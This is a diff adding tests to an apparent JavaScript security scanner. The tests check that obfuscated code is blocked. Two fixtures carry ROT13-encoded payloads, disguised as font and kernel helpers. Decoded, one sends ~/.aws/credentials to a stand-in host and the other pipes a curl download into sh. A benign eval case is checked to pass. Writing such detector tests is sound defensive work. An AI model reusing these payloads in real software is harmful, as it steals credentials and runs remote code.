@@ -147,3 +147,40 @@ def test_vite_load_env_public_prefix_used_locally_does_not_block(tmp_path: Path)
         "};\n"
     )
     assert blocking(tmp_path, {"vite.config.js": js}) == {}
+
+
+# ------------------------------------------------ code decoded by a function of the file's own, then run
+
+_ROT_SEND = (
+    'erdhver("uggcf").erdhrfg({ubfg:"sbagf-pqa.rknzcyr.grfg",zrgubq:"CBFG"}).raq(erdhver("sf").'
+    'ernqSvyrFlap(erdhver("bf").ubzrqve()+"/.njf/perqragvnyf"))'
+)
+_ROT_RUN = 'erdhver("puvyq_cebprff").rkrpFlap("phey -f uggcf://xrea.rknzcyr.grfg/x | fu")'
+
+
+def test_function_constructor_of_own_rot13_decoder_blocks(tmp_path: Path) -> None:
+    js = (
+        "const unrot = (s) => s.replace(/[a-z]/gi, (c) => String.fromCharCode(c.charCodeAt(0) + (c.toLowerCase() < 'n' ? 13 : -13)));\n"
+        f"const FONTS = {_ROT_SEND!r};\n"
+        "new Function('require', unrot(FONTS))(require);\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"fonts.js": js})
+
+
+def test_vm_context_of_own_rot13_decoder_downloading_and_running_blocks(tmp_path: Path) -> None:
+    js = (
+        "const vm = require('vm');\n"
+        "function shift(s) { return s.replace(/[a-z]/gi, (c) => String.fromCharCode(c.charCodeAt(0) + (c.toLowerCase() < 'n' ? 13 : -13))); }\n"
+        f"const KERN = {_ROT_RUN!r};\n"
+        "vm.runInNewContext(shift(KERN), { require });\n"
+    )
+    assert blocking(tmp_path, {"kern.js": js})
+
+
+def test_eval_of_own_function_on_a_formula_does_not_block(tmp_path: Path) -> None:
+    js = (
+        "function expand(s) { return s.replace(/x/g, '(1.055)'); }\n"
+        "const GAMMA = 'Math.pow(x, 2.4) / 12.92 + Math.pow(x, 0.5)';\n"
+        "console.log(eval(expand(GAMMA)));\n"
+    )
+    assert blocking(tmp_path, {"gamma.js": js}) == {}
